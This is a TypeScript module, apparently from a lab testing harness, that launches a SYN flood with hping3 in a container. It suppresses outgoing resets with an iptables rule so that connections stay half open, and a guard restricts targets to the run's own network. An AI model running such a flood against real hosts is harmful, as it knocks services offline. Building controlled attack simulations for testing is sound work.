/**
 * Real SYNs: hping3 in a container, each from another port. Its kernel would answer the victim's SYN-ACK
 * with a reset, which a rule in its own namespace drops: connections stay half open, as in the attacks.
 */
import type { ContainerAttack } from './attack.js';
import { requireVictim } from './own-network.js';
import type { Victim } from './victim.js';

export interface SynRate {
  readonly packetsPerSecond: number;
  readonly packetsMax: number;
  readonly secondsMax: number;
}

/** @throws UsageError when the victim is none of the run's own */
export function hpingAttack({ address, port, network }: Victim, rate: SynRate): ContainerAttack {
  const destination = requireVictim(address, network);
  const everyUs = Math.max(1, Math.round(1e6 / rate.packetsPerSecond));
  return {
    capabilities: ['NET_RAW', 'NET_ADMIN'],
    before: [['iptables', '-A', 'OUTPUT', '-p', 'tcp', '--tcp-flags', 'RST', 'RST', '-j', 'DROP']],
    command: [
      ...['timeout', '-s', 'INT', String(rate.secondsMax)],
      ...['hping3', '-q', '-S', '-p', String(port), '-i', `u${everyUs}`],
      ...['-c', String(rate.packetsMax), destination],
    ],
    program: 'hping3',
    count: (output) => parsedCount(/(\d+) packets transmitted/, output),
  };
}

/** The first number that an attack's output gives by a pattern. */
export function parsedCount(pattern: RegExp, output: string): number | null {
  const found = pattern.exec(output)?.[1];
  return found === undefined ? null : Number(found);
}
